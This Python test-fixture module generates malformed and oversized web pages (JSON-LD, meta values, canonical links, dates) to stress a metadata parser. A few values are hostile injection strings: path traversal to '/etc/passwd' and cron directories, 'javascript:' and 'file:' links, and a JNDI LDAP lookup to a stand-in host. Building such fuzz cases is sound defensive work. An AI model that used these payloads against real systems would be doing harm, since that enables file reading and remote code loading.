"""Pages that say hostile things about themselves: JSON-LD, meta values, canonical links, dates."""

from __future__ import annotations

import json
from typing import Any

from hostile.kinds import BEFORE, Kind, in_head, page


def linked(name: str, says: Any, size: int = 1) -> Kind:
    """A page whose JSON-LD is this, or what a function makes of the size; a string is written as it is."""

    def make(count: int) -> bytes:
        said = says(count) if callable(says) else says
        written = said if isinstance(said, str) else json.dumps(said)
        return page("", f'<script type="application/ld+json">{written}</script>')

    return Kind(name, make, size)


def stated(name: str, field: str, value: Any, size: int = 1) -> Kind:
    """A page with one meta value: so often what a string says, or what a function makes of the size."""
    return Kind(
        name,
        lambda count: page("", f'<meta name="{field}" content="{value(count) if callable(value) else value * count}">'),
        size,
    )


def article(**says: Any) -> dict[str, Any]:
    """A news article's JSON-LD."""
    return {"@context": "https://schema.org", "@type": "NewsArticle", "headline": "Boats in the fog", **says}


def deep(count: int, start: str, end: str) -> str:
    """Text inside so many pairs of brackets."""
    return start * count + "1" + end * count


LINKED = (
    linked("linked_huge", lambda n: article(articleBody="boats " * n), 1_500_000),
    linked("linked_many_authors", lambda n: article(author=[{"@type": "Person", "name": f"Jane Doe{i}"} for i in range(n)]), 20_000),
    linked("linked_one_long_author", lambda n: article(author="Jane Doe, " * n), 20_000),
    linked("linked_authors_in_authors", lambda n: article(author=json.loads(deep(n, '{"@type":"Person","author":', "}"))), 200),
    linked("linked_many_articles", lambda n: [article(headline=f"Boat {i}") for i in range(n)], 5_000),
    linked("linked_graph_of_many", lambda n: {"@graph": [{"@type": "Person", "@id": f"#{i}", "name": f"P {i}"} for i in range(n)]}, 5_000),
    linked("linked_cycle", {"@graph": [article(**{"@id": "#a", "author": {"@id": "#b"}}), {"@id": "#b", "@type": "Person", "author": {"@id": "#a"}, "name": {"@id": "#b"}}]}),
    linked("linked_deep_lists", lambda n: deep(n, "[", "]"), 50_000),
    linked("linked_deep_objects", lambda n: deep(n, '{"a":', "}"), 50_000),
    linked("linked_deep_graphs", lambda n: deep(n, '{"@graph":[', "]}"), 5_000),
    linked("linked_cut", lambda n: "[" + '{"@type":"NewsArticle",' * n, 10_000),
    linked("linked_wrong_types", article(headline=["a", 1, None], author=7, datePublished={"a": 1}, keywords=[[["x"]]], image=True, publisher=[None], url=[], inLanguage=3)),
    linked("linked_numbers_for_text", article(headline=10**400, datePublished=1e308, author=-0.0, description=False)),
    linked("linked_types_of_types", article(**{"@type": [["NewsArticle"], {"a": "b"}, None, 3]})),
    linked("linked_not_a_number", '{"@type":"NewsArticle","headline":NaN,"author":Infinity,"wordCount":1e999}'),
    linked("linked_twice_the_same_key", '{"@type":"NewsArticle","headline":"a","headline":"b","@type":"Person"}'),
    linked("linked_lone_surrogate", '{"@type":"NewsArticle","headline":"\\ud800","author":"\\udfff \\u0000"}'),
    linked("linked_lt_flood", lambda n: article(headline="<" * n, author="<!-" * n), 50_000),
    linked("linked_at_flood", lambda n: article(author="@ " * n, headline="@ " * n), 50_000),
    linked("linked_backslashes", lambda n: '{"@type":"NewsArticle","headline":"' + "\\\\" * n, 100_000),
    linked("linked_spaces", lambda n: '{"@type":"NewsArticle"' + " " * n + "x", 500_000),
    linked("linked_commas", lambda n: "[" + "," * n + "]", 200_000),
    linked("linked_commas_and_spaces", lambda n: "[1" + ", " * n + "}", 200_000),
    linked("linked_comment_openings", lambda n: "/*" * n + "<!--" * n, 50_000),
    linked("linked_scalar", "3"),
    linked("linked_body_of_markup", article(articleBody="<p>x</p><script>y</script>" * 100)),
    linked("linked_body_of_another_page", lambda n: article(articleBody="Another story about other boats. " * n), 1_000),
    Kind("linked_in_many_scripts", lambda n: page("", f'<script type="application/ld+json">{json.dumps(article())}</script>' * n), 3_000),
    Kind("linked_never_closed", lambda n: page('<script type="application/ld+json">[' + "1," * n), 100_000, shows=(BEFORE,)),
)  # fmt: skip

VALUES = (
    stated("value_author_of_lt", "author", "<", 100_000),
    stated("value_author_of_at", "author", "@ ", 50_000),
    stated("value_author_of_and", "author", "Jane Doe and ", 20_000),
    stated("value_author_of_commas", "author", "Doe, Jane, ", 20_000),
    stated("value_author_of_spaces", "author", "  a", 100_000),
    stated("value_author_of_comments", "author", "<!--", 50_000),
    stated("value_author_of_mails", "author", "a@b.example ", 30_000),
    stated("value_author_of_dots", "author", "A. B. C. ", 30_000),
    stated("value_author_path", "author", "../../../../etc/cron.d/boats"),
    stated("value_author_template", "author", "{{7*7}}${jndi:ldap://x.example/a}%n%s"),
    stated("value_description_giant", "description", "Boats went out. ", 300_000),
    stated("value_keywords_giant", "keywords", "boat, ", 100_000),
    stated("value_keywords_distinct", "keywords", lambda n: ", ".join(f"k{i}" for i in range(n)), 50_000),
    stated("value_site_name_path", "og:site_name", "../../../../etc/cron.d/boats"),
    stated("value_site_name_giant", "og:site_name", "Fenmoor ", 100_000),
    stated("value_title_giant", "og:title", "Boats | ", 100_000),
    stated("value_title_of_dashes", "og:title", "a - ", 50_000),
    stated("value_title_of_spaces", "og:title", " ", 500_000),
    stated("value_date_of_digits", "article:published_time", "2", 100_000),
    stated("value_date_repeated", "article:published_time", "2026-03-01T10:00:00Z ", 20_000),
    stated("value_date_of_year_million", "article:published_time", "1000000-01-01"),
    stated("value_date_of_zeros", "article:published_time", "0000-00-00T99:99:99+99:99"),
    stated("value_date_of_other_digits", "article:published_time", "２０２６-०३-٠١"),
    stated("value_date_timestamp", "article:published_time", "99999999999999999999"),
    stated("value_language_giant", "og:locale", "en_", 100_000),
    stated("value_image_giant", "og:image", "https://x.example/a/", 50_000),
    stated("value_url_bad", "og:url", "http://[::1"),
    stated("value_url_port", "og:url", "http://x.example:99999999/a"),
    stated("value_url_giant", "og:url", "http://x.example/", 50_000),
    stated("value_url_idn", "og:url", "http://xn--" + "a" * 300 + ".example/"),
    stated("value_surrogate", "author", "Jane &#xD800; Doe"),
    stated("value_nul", "author", "Jane &#0; Doe \u0001"),
    stated("value_bidi", "author", "Jane \u202eeod\u202c"),
    in_head("values_many_authors", "<meta name=author content='Jane Doe#'>", 10_000),
    in_head("values_many_dates", "<meta property=article:published_time content=2026-03-01>", 20_000),
    in_head("values_many_titles", "<title>Boat #</title>", 10_000),
    in_head("values_many_tags", "<meta property=article:tag content='tag #'>", 10_000),
    in_head("values_many_links", "<link rel=alternate hreflang=en href=/#>", 20_000),
    in_head("canonical_many", "<link rel=canonical href=https://x.example/#>", 10_000),
    in_head("canonical_file", "<link rel=canonical href='file:///etc/passwd'>", 1),
    in_head("canonical_script", "<link rel=canonical href='javascript:alert(1)'>", 1),
    in_head("canonical_path", "<link rel=canonical href='../../../../etc/passwd'>", 1),
    in_head("canonical_giant", "a/", 500_000, before="<link rel=canonical href='https://x.example/", after="'>"),
    in_head("canonical_no_host", "<link rel=canonical href='https:///a'>", 1),
    in_head("canonical_nul_host", "<link rel=canonical href='https://a\u0000b.example/x'>", 1),
    in_head("canonical_of_a_loop", "<link rel=canonical href='https://x.example/?u=https://x.example/?u='>", 1),
)

KINDS = (*LINKED, *VALUES)
